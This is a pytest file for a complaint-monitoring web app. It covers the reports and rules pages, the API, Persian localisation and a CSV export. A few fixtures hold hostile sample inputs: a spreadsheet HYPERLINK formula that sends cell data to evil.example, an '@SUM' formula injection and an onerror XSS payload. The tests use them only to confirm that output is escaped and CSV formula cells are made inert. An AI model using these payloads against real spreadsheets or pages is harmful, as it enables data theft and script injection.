"""The reports and rules pages, their JSON and the CSV export, on the known day of tests/monitor/report_fixture.py."""
from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from aiohttp.test_utils import TestClient, TestServer

from monitor.clock import FakeClock
from monitor.models import Author, Mention, Verdict
from monitor.store import Store
from monitor.web.app import WebContext, create_app
from monitor.web.auth import hash_password
from monitor.web.csvexport import safe_cell
from rules.engine import compile_rules
from tests.monitor.report_fixture import DAY, NOW, build
from tests.monitor.test_rulestats import RULES
from tests.web.test_dashboard import login

BEARER = {"Authorization": "Bearer api-token-1"}
THE_DAY = "from=2026-03-02&to=2026-03-02"
EVIL_SOURCE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_TEAM = "@SUM(1+1)<script>x</script>"


async def start(store: Store, ruleset=None):
    ctx = WebContext(store, FakeClock(NOW), {"sara": hash_password("correct horse")}, ["api-token-1"], [],
                     ruleset=ruleset)
    client = TestClient(TestServer(create_app(ctx)))
    await client.start_server()
    return client


@pytest.fixture
async def client(tmp_path):
    store = Store(tmp_path / "r.db")
    build(store)
    ruleset, _ = compile_rules(RULES)
    c = await start(store, ruleset)
    c.store = store
    yield c
    await c.close()


def add_hostile_complaint(store: Store) -> None:
    store.ensure_source(EVIL_SOURCE, "rss")
    store.save_poll(EVIL_SOURCE, [Mention(source=EVIL_SOURCE, native_id="e1", text="<img src=x onerror=alert(1)>",
                                          author=Author("evil"), published_at=DAY + timedelta(hours=8))],
                    None, {}, DAY, DAY)
    mention = store.unprocessed()[0]
    store.save_verdict(mention, Verdict(complaint=True, team=EVIL_TEAM, lang="en"), DAY + timedelta(hours=8), [])


async def test_everything_needs_a_login(client):
    for path in ("/reports", "/reports.csv", "/rules"):
        assert (await client.get(path, allow_redirects=False)).status == 302
    for path in ("/api/reports", "/api/rules"):
        assert (await client.get(path)).status == 401


async def test_reports_api_numbers_and_range(client):
    day = await (await client.get(f"/api/reports?{THE_DAY}", headers=BEARER)).json()
    assert day["range"] == {"from": "2026-03-02T00:00:00Z", "to": "2026-03-03T00:00:00Z", "team": None}
    assert day["complaints"]["total"] == 8
    assert day["sla"]["total"] == {"met": 3, "missed": 2, "pending": 1, "met_share": 0.6}
    assert day["first_response"]["total"]["median_minutes"] == 25.0
    billing = await (await client.get(f"/api/reports?{THE_DAY}&team=billing", headers=BEARER)).json()
    assert billing["complaints"]["total"] == 3 and [t["team"] for t in billing["sla"]["teams"]] == ["billing"]
    week = await (await client.get("/api/reports", headers=BEARER)).json()
    assert week["range"]["from"] == "2026-02-25T00:00:00Z", "default: the 7 days up to today (the 3rd)"
    assert week["complaints"]["total"] == 9, "with A11, the day before"
    for bad in ("from=soon", "from=2026-03-05&to=2026-03-01", "from=2020-01-01&to=2026-01-01"):
        resp = await client.get(f"/api/reports?{bad}", headers=BEARER)
        assert resp.status == 400 and "error" in await resp.json()


async def test_the_reports_page_draws_svg_charts_without_script(client):
    await login(client)
    resp = await client.get(f"/reports?{THE_DAY}")
    html = await resp.text()
    assert resp.status == 200
    assert html.count('<svg class="plot"') == 4
    for title in ("Complaints per hour by source", "Complaints per hour by language", "SLA met and missed by team",
                  "Time to first response"):
        assert f">{title}</figcaption>" in html
    assert "Time (UTC)</text>" in html and ">Complaints</text>" in html and 'transform="rotate(-90)"' in html
    assert "<title>2026-03-02 01:00 (UTC) · rss: 2</title>" in html, "each bar says what it counts"
    assert not re.search(r"<script(?![^>]*\bsrc=)", html), "no inline script: the CSP would refuse it"
    assert " style=" not in html, "no inline style either"
    assert '<option value="billing"' in html and '<option value="support"' in html
    assert 'href="/reports.csv?from=2026-03-02&amp;to=2026-03-02&amp;chart=sla"' in html
    assert "<dd>8</dd>" in html and "<dd>60%</dd>" in html and "25.0 min" in html


async def test_the_reports_page_in_persian(client):
    await login(client)
    await client.get("/lang/fa")
    html = await (await client.get(f"/reports?{THE_DAY}")).text()
    assert '<html lang="fa" dir="rtl">' in html
    assert "شکایت‌ها در هر ساعت به تفکیک منبع" in html and "زمان تا نخستین پاسخ" in html
    assert "<dd>۸</dd>" in html and "<dd>۶۰%</dd>" in html, "Persian digits"
    assert 'direction="ltr"' in html, "the plot keeps its axes left to right inside a right-to-left page"


async def test_hostile_names_are_escaped_on_the_page_and_inert_in_the_csv(client):
    add_hostile_complaint(client.store)
    await login(client)
    html = await (await client.get(f"/reports?{THE_DAY}")).text()
    assert "<script>x</script>" not in html and "&lt;script&gt;x&lt;/script&gt;" in html
    assert 'HYPERLINK("' not in html and "HYPERLINK(&#34;" in html
    resp = await client.get(f"/reports.csv?{THE_DAY}")
    assert resp.status == 200 and resp.content_type == "text/csv"
    assert resp.headers["Content-Disposition"] == 'attachment; filename="complaints-report-2026-03-02-to-2026-03-02.csv"'
    rows = list(csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig"))))
    assert rows[0] == ["chart", "series", "bucket", "value"]
    assert ["complaints_by_source", "rss", "2026-03-02T01:00:00Z", "2"] in rows
    assert ["sla", "billing", "met", "2"] in rows and ["first_response", "billing", "median_minutes", "10.0"] in rows
    evil = [r for r in rows if "HYPERLINK" in r[1] or "SUM" in r[1]]
    assert evil and all(r[1].startswith("'") for r in evil), "formula cells are made inert"
    assert {r[1] for r in evil} == {"'" + EVIL_SOURCE, "'" + EVIL_TEAM}


async def test_one_chart_as_csv(client):
    await login(client)
    resp = await client.get(f"/reports.csv?{THE_DAY}&chart=sla")
    assert resp.headers["Content-Disposition"].endswith('-sla.csv"')
    rows = list(csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig"))))
    assert rows[1:] == [["sla", "billing", "met", "2"], ["sla", "billing", "missed", "0"], ["sla", "billing", "pending", "0"],
                        ["sla", "support", "met", "1"], ["sla", "support", "missed", "2"], ["sla", "support", "pending", "1"]]
    assert (await client.get(f"/reports.csv?{THE_DAY}&chart=nope")).status == 400


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tTAB", "'\tTAB"),
    ("\rCR", "'\rCR"), ("rss", "rss"), ("a=b", "a=b"), ("", ""), (-3, -3), (2.5, 2.5), (None, None),
])
def test_csv_cells_that_could_be_formulas(value, expected):
    assert safe_cell(value) == expected


async def test_the_rules_page_and_api(client):
    await login(client)
    html = await (await client.get("/rules")).text()
    assert html.index(">spam</b>") < html.index(">late</b>") < html.index(">angry</b>"), "evaluation order"
    assert "1/2 pass" in html and "✗" in html and "Giveaways are noise." in html
    assert "continues to the next rule" in html and "complaint; priority high; answer within 30m; team billing" in html
    body = await (await client.get("/api/rules?days=7", headers=BEARER)).json()
    assert [r["name"] for r in body["rules"]] == ["spam", "late", "angry"]
    assert body["rules"][1]["examples_passed"] == 1 and body["days"] == 7
    # The fixture's verdicts all name the rule "r": none of these fired in the last 7 days.
    assert all(r["fired"] == 0 for r in body["rules"])
    assert (await client.get("/api/rules?days=0", headers=BEARER)).status == 400
    await client.get("/lang/fa")
    assert "قواعد از بالا به پایین" in await (await client.get("/rules")).text()


async def test_without_loaded_rules(tmp_path):
    client = await start(Store(tmp_path / "e.db"))
    try:
        assert (await client.get("/api/rules", headers=BEARER)).status == 503
        await login(client)
        assert "No rules are loaded." in await (await client.get("/rules")).text()
        html = await (await client.get("/reports")).text()
        assert html.count("Nothing in this range.") == 4
    finally:
        await client.close()
